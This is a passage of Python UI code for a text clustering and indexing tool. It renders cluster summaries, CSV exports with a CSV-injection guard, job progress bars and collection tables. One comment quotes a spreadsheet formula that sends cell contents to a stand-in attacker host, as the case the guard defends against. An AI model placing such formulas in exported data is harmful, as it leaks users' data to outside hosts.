    capped = (response.k_chosen and response.max_k_tried is not None
              and response.k == response.max_k_tried
              and (max_k is None or response.max_k_tried == max_k))
    if capped:
        parts.append(f"<b>{response.k} is the largest k tried</b> (Largest k to try): a larger "
                     "one may find a better k")
    if v_measure is not None:
        # Labels (one a text) and their classes, as `facet cluster --labels` says them: it read
        # "against the 3 given labels" for 12 labels of 3 classes.
        parts.append(f"<b>V-measure {100 * v_measure:.2f}</b> (out of 100) against {texts:,} "
                     f"{'label' if texts == 1 else 'labels'} ({label_count:,} "
                     f"{'class' if label_count == 1 else 'classes'})")
        if response.k_chosen and label_count and far_apart(label_count, response.k):
            parts.append(f"the labels have {label_count:,} classes: set k to {label_count:,} "
                         "to cluster into as many")
    parts.append(f"embedder {esc(embedder or response.embedder)}"
                 + (f", names from {esc(response.explainer)}" if response.explainer else
                    ", names from keywords"))
    stages = ", ".join(f"{k} {v / 1000:.1f} s" for k, v in response.timings_ms.items())
    if response.encode_reused:  # kept from an earlier clustering of the same texts
        stages += "; embeddings reused"
    if response.stored_vectors_used:  # the collection's bare vectors: the instructed half encoded
        stages += "; stored vectors read"
    parts.append(f"{wall_s:.1f} s ({stages})")
    notes = [*notices, response.note] if response.note else list(notices)
    return (notices_html(notes) + '<div class="facet-info facet-cluster-summary">'
            + " · ".join(parts) + (f"<br><small>texts: {source}</small>" if source else "")
            # Cut as the Search summary cuts it: this is the live area, and a screen reader
            # read the whole instruction (up to 2,000 characters) after every clustering.
            + f"<br><small>instruction: \u201c{auto_dir(esc(_short(response.instruction, 300)))}"
            "\u201d</small></div>")


def search_source_html(search: SearchRequest, took: int, why: str) -> str:
    """What a clustering of a search's results clustered: the search (query, instruction,
    collection) and how many of its results, with ``why`` that many (plain text): "the top 100
    results of the search “money transfer” without an instruction in demo-banking77 (a
    search's default, ...)". Fewer than asked for says so (the collection holds no more)."""
    results = (f"the top {plural(took, 'result', grouped=True)}" if took >= search.top_k else
               f"all {plural(took, 'result', grouped=True)} (of the top {search.top_k:,} asked for)")
    under = (f" under \u201c{auto_dir(esc(_short(search.instruction, 120)))}\u201d"
             if search.instruction else " without an instruction")
    return (f"{results} of the search \u201c{auto_dir(esc(_short(search.query, 120)))}\u201d"
            f"{under} in <b>{esc(search.collection)}</b> ({esc(why)})")


# What makes a spreadsheet read a cell as a formula (OWASP, "CSV injection"): a clustered text
# `=HYPERLINK("http://evil.example/?x="&A1,"click me")` became a live link in the export.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: object) -> str:
    """A text cell of a CSV export, with a ``'`` put before a first character that would make a
    spreadsheet run it as a formula (``= + - @``, tab, carriage return); the spreadsheet shows
    the text, and the quote says it was neutralised. Numbers are written as they are."""
    text = str(value)
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def write_cluster_csv(response: ClusterResponse, folder: Path,
                      labels: Sequence[str] | None = None) -> Path:
    """Every text with its cluster, the cluster's name (with how many members' answers it
    stands for, ``name_answers``, or for a name of keywords how many members hold one of its
    words, ``name_texts``: "26 of 27"), the explainer's answer for the text
    (empty without an explainer: the page showed no text's own answer, which the naming note
    tells the reader to check), map position (and gold label); every text cell (texts, names,
    keywords, answers, labels: from documents, a model or a person) goes through ``csv_text``."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"clusters-{time.strftime('%Y%m%d-%H%M%S')}-{time.monotonic_ns() % 10**6}.csv"
    by_id = {c.id: c for c in response.clusters}
    # A collection's (or a search's) chunks: which document and chunk each row is (the CLI's
    # JSON and POST /cluster give them; the rows could not be mapped back to documents).
    chunked = bool(response.sources) and all("doc_id" in source for source in response.sources)
    # With a byte-order mark: a spreadsheet opened without one (Excel, on a double-click) read
    # the file as cp1252, and every non-Latin text and name came out garbled (the UI review of
    # the sixth session of 2026-12-06); csv readers that know UTF-8 skip it (utf-8-sig).
    with path.open("w", newline="", encoding="utf-8-sig") as fh:
        writer = csv.writer(fh)
        writer.writerow(["index", "cluster", "cluster_name", "name_answers", "name_texts",
                         "cluster_keywords", "answer", "x", "y", "text"]
                        + (["label"] if labels is not None else [])
                        + (["doc_id", "chunk_no"] if chunked else []))
        for i, (text, label, (x, y)) in enumerate(zip(response.texts, response.labels,
                                                      response.coordinates, strict=True)):
            c = by_id.get(label)
            shared = "" if c is None or c.name_count is None else f"{c.name_count} of {c.size}"
            # A name of keywords: how many members hold one of its words ("26 of 27").
            holding = "" if c is None or c.name_texts is None else f"{c.name_texts} of {c.size}"
            cells = [c.name if c else "", shared, holding, ", ".join(c.keywords) if c else "",
                     response.answers[i] if response.answers else ""]
            source = response.sources[i] if chunked else {}
            writer.writerow([i, label, *map(csv_text, cells), x, y, csv_text(text)]
                            + ([csv_text(labels[i])] if labels is not None else [])
                            + ([csv_text(source["doc_id"]), source.get("chunk_no", "")] if chunked else []))
    return path


# ------------------------------------------------------------ jobs, catalog


# The states of a job that stopped before it finished, which the page can go on with (Resume):
# a server restart's ``interrupted``, and a ``cancelled`` one (its message said "index the same
# source again to resume", which the page of an upload job could not do: its box was empty and
# "Index the uploads" asked for files).
STOPPED_STATES = ("interrupted", "cancelled")


# The core's hints for a job name the command line and the API (``follow_hint``, a cancel's
# `facet jobs N --cancel`, POST /jobs/N/cancel); a refusal shown on the page names its own
# controls first: a delete refused while a job indexed the collection sent the user to the tab
# they were on, and to commands (the UI review of the fourth session of 2026-12-06). The
# command stays beside Cancel job, which only a page showing the job's bar has (a job of
# another page, of the command line).
_PAGE_HINTS = (
    (re.compile(r"`facet jobs \d+ --follow`, GET /jobs/\d+, or the UI's Collections tab"),
     "the Collections tab's jobs table shows it"),
    (re.compile(r"each: `facet jobs N --cancel`, POST /jobs/N/cancel, N one of ([\d, ]+)"),
     r"each with Cancel job, under its bar on the Index tab of a page that shows it, or "
     r"`facet jobs N --cancel`, N one of \1"),
    (re.compile(r"`facet jobs (\d+) --cancel`, POST /jobs/\d+/cancel"),
     r"Cancel job, under its bar on the Index tab of a page that shows it, or "
     r"`facet jobs \1 --cancel`"),
)


def page_words(message: str) -> str:
    """``message`` with the core's command-line and API hints for a job in the page's words
    (``_PAGE_HINTS``)."""
    for pattern, words in _PAGE_HINTS:
        message = pattern.sub(words, message)
    return message


def _on_page(part: str) -> str:
    """One "; "-part of a job's message in the page's words: the note on a collection the job
    made and left empty names the Collections tab's Delete, not `facet delete C` (DELETE
    /collections/C), which a stopped job's message lost whole (its command) and a finished
    one's showed."""
    if LEFT_EMPTY not in part:
        return part
    return part.split(": `", 1)[0] + ": Delete collection, on the Collections tab, removes it"


def job_message(job: JobInfo, hint: str | None = None) -> str:
    """The job's message in the page's words. A stopped (``STOPPED_STATES``) job's message ends
    with the command line that resumes it (`facet index ... --collection ...`) or "index the same
    source again", which a person on the page cannot do: that part is left out and ``hint``
    (what to do on the page) takes its place, unless another job has taken the work up already
    ("resumed by job 9")."""
    message = "; ".join(_on_page(part) for part in (job.message or "").split("; "))
    if job.state not in STOPPED_STATES:
        return message
    # The core's messages put what happened first and the hint after "; " (it keeps only the
    # first part itself once a job resumes another).
    kept = [part for part in message.split("; ")
            if "`" not in part and not part.startswith("index the same source again")]
    text = "; ".join(kept) or "stopped before it finished"
    if hint and "resumed by job" not in text:
        text += f"; {hint}"
    return text


# What a queued or running job asked to stop (``JobInfo.cancel_requested``) shows as its state.
# (It said "it stops after this batch", but a batch being encoded is dropped at once: the UI
# exploration of the third session of 2026-12-07 saw 64 of 120 chunks encoded, none written.)
CANCELLING = ("<b>cancelling</b> (it stops within seconds; what it indexed so far is kept, the "
              "batch it is encoding is not written)")


def _utc(text: str | None) -> dt.datetime | None:
    """A time the core wrote (UTC, with or without its offset); None where there is none."""
    if not text:
        return None
    try:
        when = dt.datetime.fromisoformat(text)
    except ValueError:
        return None
    return when.replace(tzinfo=dt.UTC) if when.tzinfo is None else when


def _running_for(job: JobInfo) -> float | None:
    """Seconds since a running ``job`` started (its ``started_at``, UTC); None for a job not
    running, or of no readable start."""
    started = _utc(job.started_at) if job.state == "running" else None
    if started is None:
        return None
    return max(0.0, (dt.datetime.now(dt.UTC) - started).total_seconds())


def _ran_for(job: JobInfo) -> float:
    """Seconds a cancelled ``job`` ran, from its start to its end (0 where either is unknown, and
    for any other state): its stages' sum leaves out the one a cancel cut short, and a job
    cancelled after 6 s of encoding read "(0.1 s of work)" (the UI exploration of the third
    session of 2026-12-07). Not an interrupted one: a job whose process died is ended by the
    next run, which may come days later; nor a worker job, which a cancel of a stalled job ends
    only when a worker takes its next chunk, as late."""
    if job.state != "cancelled" or job.runner == "celery":
        return 0.0
    started, ended = _utc(job.started_at), _utc(job.finished_at)
    return max(0.0, (ended - started).total_seconds()) if started and ended else 0.0


def job_html(job: JobInfo, total: int | None, *, message: str | None = None,
             notices: Sequence[str] = ()) -> str:
    """A progress bar for an index job, with its collection, counters and state, its message
    (``message`` in the page's words, default the job's own) and any ``notices`` under it."""
    done = job.docs_seen
    finished = job.state in ("completed", "failed", "interrupted", "cancelled")
    if job.state == "completed":
        fraction = 1.0
    elif total:
        fraction = min(done / total, 0.99 if not finished else 1.0)
    else:
        fraction = 0.0
    of = f"/{total:,}" if total else ""
    # A running job's time since it started, which goes on with each poll: the stages' sum
    # grows only as a stage ends, and read "(2.0 s of work)" for the 100 s of one long batch
    # (the UI review of the fourth session of 2026-12-06).
    since = _running_for(job)
    elapsed = max(sum(job.timings.values()), _ran_for(job))  # (0 unless cancelled)
    timing = (f" (started {since:,.0f} s ago)" if since is not None else
              f" ({elapsed:.1f} s of work)" if elapsed else "")
    # The state after a colon, apart from the name: "Job 2 into <b>big</b> <b>running</b>" read
    # as one name, "big running". A running job asked to stop says so until its batch ends (it
    # read "running ... encoding chunk 64/194 of this batch" for 13 s, the Cancel button still
    # there, as if the cancel had not been heard).
    stopping = job.cancel_requested and not finished
    state = CANCELLING if stopping else f"<b>{esc(job.state)}</b>"
    text = (f"Job {job.id} into <b>{esc(job.collection)}</b>: {state}, "
            f"{done:,}{of} documents seen, "
            f"{job.docs_indexed:,} indexed, {job.docs_skipped:,} unchanged, "
            f"{job.docs_failed:,} failed, {removed_said(job)}{job.chunks_written:,} "
            f"chunk{'' if job.chunks_written == 1 else 's'} written{timing}")
    if job.removed_keys_total:  # a removal (`facet delete C --document KEY`): what it removed
        text = (f"Removal job {job.id} from <b>{esc(job.collection)}</b>: "
                f"{state}, {job.docs_deleted:,} of "
                f"{plural(job.removed_keys_total, 'document', grouped=True)} removed{timing}")
    said = job_message(job) if message is None else message
    # The documents its message and notices name, as the errors table under the bar names them
    # (``source_relative``): a warning under it read "They are in 1 document:
    # "/tmp/x/data/uploads/c/fullwidth.txt"", the server's data folder, beside "fullwidth.txt".
    said = source_relative(said, job.source)
    notices = [source_relative(n, job.source) for n in notices]
    # A queued or running job's message is its progress ("encoding chunk 0/194 of this batch"):
    # plain, not in the warning box of a failed or stopped job's message.
    style = "facet-note" if finished else "facet-info"
    note = (f'<div class="{style} facet-job-message">{name_html(said)}</div>' if said
            else "")
    # A screen reader's progress bar: its value unknown (no total yet) while the job runs.
    known = total or finished
    value = f' aria-valuenow="{100 * fraction:.0f}"' if known else ""
    return (f'<div class="facet-job" data-state="{esc(job.state)}">'
            f'<div class="facet-bar" role="progressbar" aria-label="Job {job.id}" '
            f'aria-valuemin="0" aria-valuemax="100"{value}>'
            f'<div style="width:{100 * fraction:.0f}%"></div></div>'
            f'<div class="facet-info">{text}</div>{note}{notices_html(notices)}</div>')


def removed_said(job: JobInfo) -> str:
    """"N removed, " where an index job's sync removed documents no longer in its source (an
    upload replaced by one without some records, a file deleted from the folder), as `facet
    jobs` counts them; "" where none was. The bar said "2 indexed, 28 unchanged, 0 failed" of a
    job that also removed a record, which left the collection unsaid (the UI review of
    2026-12-06)."""
    return f"{job.docs_deleted:,} removed, " if job.docs_deleted else ""


def job_said(job: JobInfo | None, job_id: int = 0, collection: str | None = None) -> str:
    """The Index tab's announcement (a visually hidden live area): the bar's job and its state,
    with its counts once it has ended; "" with no job. It changes only with the state (queued,
    running, cancelling, then how it ended), so a screen reader says each once: the bar (its
    counts change at every poll) is not live, and its progressbar's value is not read out.
    ``job`` None: the job ``job_id`` (into ``collection``) is gone with its collection."""
    if job is None:
        if not job_id:
            return ""
        into = f" into {collection}" if collection else ""
        return name_html(f"Job {job_id}{into} is gone: its collection was deleted.")
    finished = job.state in ("completed", "failed", "interrupted", "cancelled")
    state = "cancelling" if job.cancel_requested and not finished else job.state
    counts = (f", {job.docs_indexed:,} indexed, {job.docs_skipped:,} unchanged, "
              f"{job.docs_failed:,} failed{', ' + removed_said(job)[:-2] if job.docs_deleted else ''}"
              if finished else "")
    return name_html(f"Job {job.id} into {job.collection}: {state}{counts}.")


def job_gone_html(job_id: int, collection: str | None) -> str:
    """The bar of a job that no longer exists: its collection was deleted (with its jobs)
    while the bar polled it."""
    into = f" into <b>{esc(collection)}</b>" if collection else ""
    what = f"its collection {esc(collection)}" if collection else "its collection"
    return (f'<div class="facet-job" data-state="gone"><div class="facet-info">Job {job_id}{into} '
            f'is <b>gone</b>: {what} was deleted, with its jobs, while it was queued or running. '
            'Nothing more is indexed; start a new job to index the files again.</div></div>')


def other_jobs_html(jobs: Sequence[JobInfo]) -> str:
    """One line for the jobs still queued or running beside the one whose bar is shown (a
    second job started from the page takes the bar; the first goes on)."""
    if not jobs:
        return ""
    items = "; ".join(f"job {j.id} into <b>{esc(j.collection)}</b> {esc(j.state)}, "
                      f"{plural(j.docs_seen, 'document', grouped=True)} seen" for j in jobs)
    return (f'<div class="facet-note facet-other-jobs">Also in progress: {items} '
            "(the Collections tab lists every job).</div>")


JOB_ERROR_COLUMNS = ["document", "kind", "message"]


def source_relative(text: str, source: str | None) -> str:
    """``text`` (a job's message, error or warning) with the job's ``source`` folder cut from
    the document keys it names: the indexer names a file by its full server path (an upload
    job's, ``DATA/uploads/C/a.txt``: the server's data folder), the page names it relative to
    what was picked or uploaded (``a.txt``). Also a key quoted as JSON (``"DATA/uploads/C/a.txt"``
    in a warning naming the documents it is in). Not inside `...`: a command to paste
    (`facet delete C --document '/src/a.txt'`) must keep its absolute path, or it names no
    document from any other folder. The errors table and the Index tab's bar both use it."""
    folder = (source or "").rstrip("/")
    if not folder:  # no source, or "/" (cutting "/" would join every path's parts)
        return text
    prefix = folder + "/"
    quoted = json.dumps(prefix, ensure_ascii=False)[1:-1]  # its `"` and `\` escaped

    def cut(part: str) -> str:
        part = part.replace(prefix, "")
        return part.replace(quoted, "") if quoted != prefix else part

    parts = text.split("`")
    return "`".join(p if i % 2 else cut(p) for i, p in enumerate(parts))


def document_cell(document: str, source: str | None) -> str:
    """An erring document as the errors table names it: its path under the job's source folder
    (``2023/report.txt``), the file's name where the source is that file, else as given (a
    record id, a path elsewhere). Its name alone showed ``report.txt`` twice for ``2023/`` and
    ``2024/``, and a record id ``a/b`` as ``b``."""
    folder = (source or "").rstrip("/")
    if folder and document.startswith(folder + "/"):
        return document[len(folder) + 1:]
    if folder and document == folder:
        return Path(document).name or document
    return document


def job_error_rows(job: JobInfo) -> list[list[str]]:
    """Per-document errors and warnings of a job, with the job's source folder cut from the
    messages (the indexer names the file by its full server path, e.g. the data folder's
    upload area; the page shows it relative to what was picked or uploaded). A job comes with
    its first errors only (``CollectionService.job``): a last row says how many more there
    are, of how many (the table listed 20,000 rows at each poll of a running job)."""
    # Names and messages with their control characters and bidi controls shown escaped.
    rows = [[printable(document_cell(e["document"], job.source)), printable(e["kind"]),
             printable(source_relative(e["message"], job.source))] for e in job.errors]
    more = job.errors_total - len(job.errors)
    if more > 0:
        rows.append(["…", "", f"{more:,} more not listed: {job.errors_total:,} errors and "
                              f"warnings in all, the first {len(job.errors):,} above"])
    # A removal's keys, after its errors (it has none unless it failed): no errors, they were
    # listed as "removing" errors ("500 errors and warnings in all") until 2026-11-30.
    kind = "removed" if job.state == "completed" else "to remove"
    rows += [[printable(Path(k).name or k), kind,
              f"a document this removal was given ({printable(k)})"] for k in job.removed_keys]
    more = job.removed_keys_total - len(job.removed_keys)
    if more > 0:
        rows.append(["…", "", f"{more:,} more not listed: {job.removed_keys_total:,} documents "
                              f"in all, the first {len(job.removed_keys):,} above"])
    return rows


COLLECTION_COLUMNS = ["name", "documents", "indexed", "failed", "chunks", "points", "on disk",
                      "embedders", "chunking", "created"]


def _first_clause(text: str) -> str:
    """A store note's first clause (what is wrong, naming the file), without what to do."""
    return re.split(r"; |\. (?=[A-Z])", text, maxsplit=1)[0]


def points_cell(c: CollectionInfo) -> int | str:
    """A collection's points, or why they are not counted: another process writing it or
    holding it open (its shard cannot be opened here; the CLI says "? points" and who), or
    "missing" where the store has no such collection. "missing" was shown for all three and
    read like lost data while a job was writing it. A collection indexed into another vector
    store than the one in use (``store_in_use``) says where its vectors are: it read "missing"
    beside its very folder (``store_note``, which search refusals say, tells how to get back).
    A collection whose store files this process cannot open (``store_unreadable``: another
    user's, ``chmod``) or read (``store_damaged``) says so, where it read "missing"; one whose
    store holds fewer points than it has chunks (``points_missing``) says how many are missing,
    where the count alone read as all of them. The first clause of the store's words: the
    listing (`facet collections`) has them whole."""
    if c.writer:
        return f"? (being written: {c.writer})"
    if c.store_damaged is not None:
        return (f"? (store files damaged: {_first_clause(c.store_damaged)}; restore them, or "
                "delete it and index it again)")
    if c.store_unreadable is not None:
        return (f"? (store files unreadable: {_first_clause(c.store_unreadable)}; give them to "
                "this user, or run as their owner)")
    if c.store_in_use is not None:
        from app.services.collections import store_place

        held = ("" if c.points is None else
                f"; the store in use holds an older copy, {c.points:,} points, maybe stale")
        return f"in another store: {store_place(c.backend, c.name)}{held}"
    if c.points is not None and c.points_missing > 0:
        return (f"{c.points:,} ({plural(c.points_missing, 'chunk', grouped=True)} of {c.chunks:,} missing from "
                "the store: index its sources again, or delete it again if a delete was cut "
                "short)")
    if c.points is not None:
        return c.points
    if c.open_in:
        return f"? (open in {c.open_in}; counted there)"
    if not c.store_missing and not c.chunks:
        # Nothing written yet (its first job queued, or cancelled before it ran): the store
        # collection is made by the first job that runs. It read "missing", where the CLI says
        # "? points" / "no points yet".
        return "none yet"
    return "missing"


def stray_documents_cell(c: CollectionInfo) -> str:
    """What a stray (vectors no collection of this database owns) is, in its "documents" cell,
    as `facet collections` says it: whose they are (``owner``) and what to do."""
    from app.services.collections import FOLDER_DATABASE, MOVE_IT

    if c.owner == FOLDER_DATABASE:
        # A laptop's collection under a new FACET_DATABASE_URL: Delete refuses it.
        return (f"vectors only, of collection {c.name!r} of {FOLDER_DATABASE}, not of the "
                "database FACET_DATABASE_URL names: unset FACET_DATABASE_URL to use them, "
                f"{MOVE_IT} (docs/deploy.md)")
    if c.owner is not None:
        return (f"vectors only, which no collection of this database owns; they may be of "
                f"{c.owner}: unset FACET_DATABASE_URL to look")
    return "vectors only, which no collection of this database owns: Delete removes them"


def collection_rows(infos: Sequence[CollectionInfo],
                    strays: Sequence[CollectionInfo] = ()) -> list[list[Any]]:
    """One row per collection, after one per stray (``strays``: vectors no collection of this
    database owns, first, as `facet collections` lists them): the page listed none, while the
    CLI and GET /collections did, and indexing into such a name was refused."""
    return [[c.name, stray_documents_cell(c), "", "", "",
             "?" if c.points is None else c.points,
             "" if c.disk_bytes is None else size_text(c.disk_bytes),
             c.embedders_label(), "", ""]
            for c in strays] + [
            [c.name, c.documents, c.documents_indexed, c.documents_failed, c.chunks,
             points_cell(c),
             "" if c.disk_bytes is None else size_text(c.disk_bytes),  # as `facet collections`
             c.embedders_label(),
             f"{c.chunk_size} tokens, overlap {c.chunk_overlap}", c.created_at]
            for c in infos]


def deleted_text(c: CollectionInfo, stray: bool) -> str:
    """The Delete toast: what was deleted and, for a collection indexed into another vector
    store than the one in use (``store_in_use``), that its vectors stay there (the CLI warned
    it; the page said only "Deleted notes: 20 documents, 20 chunks.")."""
    from app.services.collections import store_place

    if stray:
        points = "" if c.points is None else f" ({plural(c.points, 'point', grouped=True)})"
        return f"Deleted the vectors of {c.name}{points}, which no collection of this database owned."
    said = (f"Deleted {c.name}: {plural(c.documents, 'document', grouped=True)}, "
            f"{plural(c.chunks, 'chunk', grouped=True)}.")
    if c.store_in_use is not None:
        said += (f" Its vectors stay in {store_place(c.backend, c.name)}, the store it was "
                 "indexed into, not the one in use: with that store in use again, deleting "
                 f"{c.name} removes them (docs/deploy.md).")
    return said


# "removed": what a sync took out (a file deleted from the folder, an upload replaced without
# some records), which the bar says (``removed_said``) and the table did not.
JOB_COLUMNS = ["job", "collection", "state", "seen", "indexed", "failed", "removed", "chunks",
               "embedder", "started", "message"]
# Widths for the jobs table (``gr.Dataframe(column_widths=...)``): left to the content, the long
# messages squeezed the other columns until their headers broke mid-word ("jo|b", "fa|il|ed").
# A header is bold monospace (14 px: 8.4 px a letter) inside 8 px of padding on each side:
# "indexed" needs 59 + 16 px, which 72 px did not give ("indexe|d", "faile|d" at 1360 px).
# All in pixels: percentages of a narrow window broke "collecti|on" and "embedd|er" below
# ~1280 px and made each row 150-300 px tall on a phone; the table scrolls sideways instead.
JOB_COLUMN_WIDTHS = ["56px", "112px", "96px", "72px", "88px", "80px", "88px", "80px", "104px", "144px",
                     "288px"]


def job_rows(jobs: Sequence[JobInfo], messages: Mapping[int, str] | None = None,
             uploads: Mapping[str, str] | None = None) -> list[list[Any]]:
    """Recent jobs, newest first, each with its message: ``messages[id]`` where the page has
    its own words for it (a stopped job: how to resume it here), else ``job_message``. A
    stopped or failed job showed only its state, and nothing said why or what to do. A job
    that never ran says so under "started" ("queued T, never started"), not its queue time.
    ``uploads``: each collection's upload folder on the server, cut from the keys a message
    names (``source_relative``), as the rest of the page names an uploaded file: a removal's
    row read "removed 1 document (0 chunks) on request: /srv/data/uploads/ups/scan.txt"."""
    messages, uploads = messages or {}, uploads or {}
    # A message quotes file names and keys: their ESC, newline and bidi controls escaped.
    # Counts stay numbers, as in the Collections table (a column of "1,535" strings sorts as text).
    return [[j.id, j.collection, j.state, j.docs_seen, j.docs_indexed, j.docs_failed,
             j.docs_deleted, j.chunks_written, printable(j.embedder), j.started_at or j.when(),
             printable("; ".join(filter(None, (
                 source_relative(messages.get(j.id, job_message(j)), uploads.get(j.collection)),
                 errors_said(j)))))]
            for j in jobs]


def errors_said(job: JobInfo) -> str:
    """How many per-document errors and warnings ``job`` has (``errors_total``, counted in a
    listing too) and where to read them, for its row of the jobs table ("" for none): a
    completed job with warnings showed an empty message, and nothing said it had any. The page
    lists them only under the Index tab's bar, for the job started there."""
    n = job.errors_total
    if n <= 0:
        return ""
    what, them = ("1 error or warning", "it") if n == 1 else (f"{n:,} errors and warnings", "them")
    return (f"{what}: `facet jobs {job.id}` (GET /jobs/{job.id}) lists {them}, as the Index "
            "tab does under the bar of a job started there")
